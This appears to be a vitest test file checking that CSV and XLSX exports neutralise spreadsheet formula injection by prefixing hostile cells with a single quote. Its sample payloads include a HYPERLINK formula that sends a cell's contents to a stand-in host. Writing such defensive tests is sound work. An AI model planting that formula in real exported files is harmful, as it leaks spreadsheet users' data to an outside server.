import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from './csv';
import { xlsxTable } from './xlsx';

const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"Klicka")', '+SUM(1+1)', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

describe('toCsv', () => {
  it('writes semicolon CSV with a BOM and quotes what needs it', () => {
    expect(
      toCsv([
        ['Namn', 'Not'],
        ['Åsa; Öberg', 'sa "hej"\nigen'],
        [null, 12],
      ]),
    ).toBe('\uFEFFNamn;Not\r\n"Åsa; Öberg";"sa ""hej""\nigen"\r\n;12\r\n');
  });

  it('neutralises formula injection in every text cell (OWASP: leading single quote) but leaves plain negative numbers', () => {
    for (const h of HOSTILE) expect(neutraliseFormula(h)).toBe(`'${h}`);
    const csv = toCsv([['Namn', 'Belopp'], ...HOSTILE.map((h) => [h, '-509,00'])]);
    const cells = csv
      .slice(1)
      .split('\r\n')
      .slice(1, -1)
      .map((r) => r.replace(/^"/, ''));
    for (const c of cells) expect(c.startsWith("'")).toBe(true);
    expect(csv).toContain(';-509,00\r\n');
    expect(toCsv([['Anna', -12]])).toBe('\uFEFFAnna;-12\r\n');
  });

  it('neutralises the same cells in xlsx exports', async () => {
    const buf: Buffer = await xlsxTable(
      'Lista',
      ['Namn', 'Belopp'],
      HOSTILE.map((h) => [h, -509]),
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    for (let i = 0; i < HOSTILE.length; i++) {
      const cell = ws!.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(String(cell.value).startsWith("'"), HOSTILE[i]).toBe(true);
      expect(ws!.getRow(i + 2).getCell(2).value).toBe(-509);
      if (i === 0) expect(cell.value).toBe(`'${HOSTILE[0]}`);
    }
  });
});
